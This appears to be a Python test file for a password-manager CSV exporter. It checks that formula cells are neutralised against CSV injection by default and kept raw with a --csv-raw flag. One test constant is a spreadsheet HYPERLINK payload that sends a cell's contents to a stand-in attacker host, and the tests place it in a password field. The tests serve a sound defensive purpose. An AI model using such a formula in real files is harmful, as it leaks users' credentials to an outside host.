"""The CSV writer kit (``adapters/kit/csvwrite.py``): formula cells neutralised by default
(OWASP CSV injection), kept as they are with ``--csv-raw``; the Bitwarden and KeePassXC CSV
writers use it; adapter option sets on the shared options."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from cxkit import adapters
from cxkit.adapters import WriteOptions
from cxkit.adapters.base import ReadOptions, converted_document
from cxkit.adapters.kit.csvwrite import FORMULA_START, CsvOut, CsvWriteOptions, neutralise
from cxkit.adapters.report import MigrationReport
from cxkit.cli.main import main
from cxkit.cxf import model as m

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


def _parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=6), max_size=5))
def test_round_trip_of_the_neutraliser(rows: list[list[str]]) -> None:
    safe, raw = CsvOut(), CsvOut(raw=True)
    for out in (safe, raw):
        out.header([f"c{n}" for n in range(6)])
        for row in rows:
            out.row(row)
    back_raw = _parse(raw.getvalue())[1:]
    back_safe = _parse(safe.getvalue())[1:]
    assert back_raw == rows
    for original, written in zip(rows, back_safe, strict=True):
        assert written == [neutralise(c) for c in original]
        for cell, out_cell in zip(original, written, strict=True):
            assert not out_cell.startswith(FORMULA_START)
            assert out_cell in (cell, "'" + cell)
    assert safe.changed == sum(c.startswith(FORMULA_START) for r in rows for c in r)


def test_neutralise() -> None:
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell
    for cell in ("", "a=b", "'=x", "1-2", " =x"):
        assert neutralise(cell) == cell


def _doc_with(password: str) -> object:
    item = m.Item(
        id="AAAAAAAAAAAAAAAAAAAAAA",
        title="Sheet",
        credentials=(
            m.BasicAuth(
                username=m.EditableField(field_type="string", value="@alice"),
                password=m.EditableField(field_type="concealed-string", value=password),
            ),
        ),
    )
    account = m.Account(
        id="AAAAAAAAAAAAAAAAAAAAAQ", username="", email="", collections=(), items=(item,)
    )
    return converted_document(account, rp_id="example.com", app="Test")


def test_writers_neutralise_by_default_and_keep_with_csv_raw() -> None:
    doc = _doc_with(FORMULA)
    for key, column in (("bitwarden-csv", "login_password"), ("keepassxc-csv", "Password")):
        assert adapters.get(key).info.write_options == (CsvWriteOptions,)
        out, report = adapters.write(doc, key)  # type: ignore[arg-type]
        (header, row) = _parse(out)
        cells = dict(zip(header, row, strict=True))
        assert cells[column] == "'" + FORMULA
        assert any("leading '" in w for w in report.warnings)
        assert FORMULA not in json.dumps(report.to_json()) and FORMULA not in report.render()
        options = WriteOptions()
        options.set(CsvWriteOptions(raw=True))
        raw, raw_report = adapters.write(doc, key, options=options)  # type: ignore[arg-type]
        (header, row) = _parse(raw)
        assert dict(zip(header, row, strict=True))[column] == FORMULA
        assert not any("leading '" in w for w in raw_report.warnings)
        # reading a neutralised file back keeps the apostrophe (it may be the user's own)
        back, _ = adapters.read(out, "back.csv", source_format=key)
        (item,) = (i for _, i in back.items())
        auth = next(c for c in item.credentials if isinstance(c, m.BasicAuth))
        assert auth.password is not None and auth.password.value == "'" + FORMULA


def test_option_sets_default_and_given() -> None:
    options = WriteOptions()
    assert options.get(CsvWriteOptions) == CsvWriteOptions()
    options.set(CsvWriteOptions(raw=True))
    assert options.get(CsvWriteOptions).raw is True
    read = ReadOptions(extra={CsvWriteOptions: "not the set"})
    assert read.get(CsvWriteOptions) == CsvWriteOptions()  # a wrong value falls back


def test_cli_csv_raw(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes(
        b"folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,"
        b'login_password,login_totp\r\n,,login,Sheet,,,0,,bob,"' + FORMULA.replace('"', '""').encode()
        + b'",\r\n'
    )  # fmt: skip
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    base = ["convert", str(src), "--to", "keepassxc-csv", "--plaintext", "-q", "-o"]
    assert main([*base, str(safe)]) == 0
    assert main([*base, str(raw), "--csv-raw"]) == 0
    safe_cells = _parse(safe.read_bytes())[1]
    raw_cells = _parse(raw.read_bytes())[1]
    assert safe_cells[3] == "'" + FORMULA and raw_cells[3] == FORMULA


def test_report_warning_counts_cells_not_values() -> None:
    out = CsvOut()
    out.row(["=1", "-2", "ok"])
    report = MigrationReport()
    data = out.getvalue(report)
    assert data == b"'=1,'-2,ok\r\n"
    assert report.warnings and report.warnings[0].startswith("2 CSV cell(s)")
